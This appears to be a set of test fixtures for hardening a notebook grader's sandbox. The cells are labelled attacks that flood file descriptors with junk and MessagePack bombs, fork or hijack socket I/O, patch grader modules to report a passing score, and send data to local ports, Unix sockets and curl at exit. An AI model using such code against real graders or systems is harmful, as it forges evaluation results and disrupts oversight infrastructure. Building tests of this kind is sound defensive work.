# Attacks on what leads out of the process: the channels to the grader, and the network.

# %% attack="garbage_into_every_descriptor" place="answer"
# Bytes without sense into every open file and socket, at each call.
def nesterov(w, dw, config=None):
    import os
    import socket

    for fd in range(3, 1024):
        for bytes_ in (b"\x00", b"\xff" * 64, os.urandom(5000), b'{"score": 24}\n'):
            try:
                os.write(fd, bytes_)
            except OSError:
                break
    return w, config


# %% attack="forged_lengths" place="answer"
# The beginnings of messages that would be as long as memory, in every usual way to say so.
def nesterov(w, dw, config=None):
    import os
    import struct

    for fd in range(3, 256):
        for form in ("<I", ">I", "<Q", ">Q", "<i", ">i", "<q", ">q"):
            try:
                os.write(fd, struct.pack(form, 2**31 - 1 if "q" not in form.lower() else 2**62))
            except (OSError, struct.error):
                break
    return w, config


# %% attack="msgpack_bombs" place="answer"
# Well-formed MessagePack with lengths, depths and extensions that no answer has.
def nesterov(w, dw, config=None):
    import os
    import struct

    bombs = (
        b"\xdd\xff\xff\xff\xff",
        b"\xdf\xff\xff\xff\xff",
        b"\xc6\xff\xff\xff\xff",
        b"\x91" * 100_000,
        *(b"\xc9\xff\xff\xff\xff" + bytes([kind]) for kind in range(8)),
        *(b"\xd4" + bytes([kind]) + b"\x00" for kind in range(256)),
    )
    for fd in range(3, 256):
        for bomb in bombs:
            for head in (b"", struct.pack("<I", len(bomb)), struct.pack(">I", len(bomb))):
                try:
                    os.write(fd, head + bomb)
                except OSError:
                    break
    return w, config


# %% attack="answers_in_advance" spoils="true"
# Repeats each message to the grader many times, so that later questions find an answer waiting.
import os
import socket

for name in ("send", "sendall", "sendmsg"):
    real = getattr(socket.socket, name)
    if name == "sendmsg":
        many = lambda self, *a, real=real: [real(self, *a) for _ in range(20)][0]
    else:
        many = lambda self, data, *a, real=real: [real(self, data, *a) for _ in range(20)][0]
    try:
        setattr(socket.socket, name, many)
    except (AttributeError, TypeError):
        pass
write, writev = os.write, os.writev
os.write = lambda fd, data: [write(fd, data) for _ in range(20 if fd > 2 else 1)][0]
os.writev = lambda fd, data: [writev(fd, data) for _ in range(20 if fd > 2 else 1)][0]


# %% attack="answers_in_advance" place="answer"
def nesterov(w, dw, config=None):
    return w, {"learning_rate": 0.01, "momentum": 0.9, "velocity": w}


# %% attack="rewrites_the_wire" spoils="true"
# Replaces whatever turns objects into messages by what says that all is well.
import gc
import sys
import types

for name, module in list(sys.modules.items()):
    if name.partition(".")[0] in ("inside", "msgpack") or name.startswith("grader.engine"):
        for key, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType) and not key.startswith("__"):
                setattr(module, key, lambda *a, **k: None)
            elif isinstance(value, type):
                for own in [k for k in vars(value) if not k.startswith("__")]:
                    try:
                        setattr(value, own, lambda *a, **k: {"score": 24, "passed": True})
                    except (AttributeError, TypeError):
                        pass


# %% attack="closes_every_descriptor" place="answer"
# Closes all that is open, from 0 on, and puts files of its own into those places.
def nesterov(w, dw, config=None):
    import os

    os.closerange(0, 1024)
    for _ in range(64):
        os.open("/dev/zero", os.O_RDWR)
    return w, config


# %% attack="two_answer_for_one" place="answer" spoils="true"
# Forks in the middle of a call: both processes come back from it and answer, again and again.
def nesterov(w, dw, config=None):
    import os

    if os.getpid() != getattr(nesterov, "last", None):
        nesterov.last = os.getpid()
        os.fork()
    return w, config


# %% attack="steals_the_questions" spoils="true"
# Reads from every channel in a thread, so that questions of the grader get lost or torn.
import os
import socket
import stat
import threading


def steal(fd):
    for _ in range(10_000):
        try:
            os.read(fd, 7)
        except OSError:
            return


for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
            threading.Thread(target=steal, args=(fd,), daemon=True).start()
    except OSError:
        pass


# %% attack="half_a_message" place="answer"
# One byte to the grader every while, without end: never silent, never done.
def nesterov(w, dw, config=None):
    import os
    import stat
    import time

    for _ in range(3_000):
        for fd in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, b"\x01")
            except OSError:
                pass
        time.sleep(0.02)
    return w, config


# %% attack="calls_a_local_port"
# What it knows, to a port of this machine, over TCP and UDP, from the notebook and from curl.
import socket
import subprocess

for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        socket.create_connection((host, PORT), timeout=2).sendall(b"over TCP")
    except OSError as error:
        print(error.strerror)
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        socket.socket(family, socket.SOCK_DGRAM).sendto(b"over UDP", (host, PORT))
    except OSError as error:
        print(error.strerror)
try:
    subprocess.run(["curl", "-sm2", f"http://127.0.0.1:{PORT}/by-curl"], timeout=5)
except (OSError, subprocess.SubprocessError) as error:
    print(type(error))

# %% attack="calls_a_unix_socket"
# What it knows, to a Unix socket: one without a file, and one in the course's neighbourhood.
import glob
import socket

for address in ("\0" + SOCKET, f"{OUTSIDE}/socket", *glob.glob("/run/*.sock")):
    try:
        channel = socket.socket(socket.AF_UNIX)
        channel.settimeout(2)
        channel.connect(address)
        channel.sendall(b"over a Unix socket")
    except OSError as error:
        print(error.strerror)

# %% attack="calls_out_at_exit"
# What it knows, to a port of this machine and to a file, once Python ends or objects die.
import atexit
import socket
import weakref


def out(how=b"at exit"):
    open(f"{OUTSIDE}/{MARK}-{how.decode().replace(' ', '-')}", "wb").close()
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(how)


class Last:
    def __del__(self, out=out):
        out(b"in del")


atexit.register(out)
last = Last()
cycle = [last]
cycle.append(cycle)
weakref.finalize(last, out, b"finalized")
get_ipython().atexit_operations = out
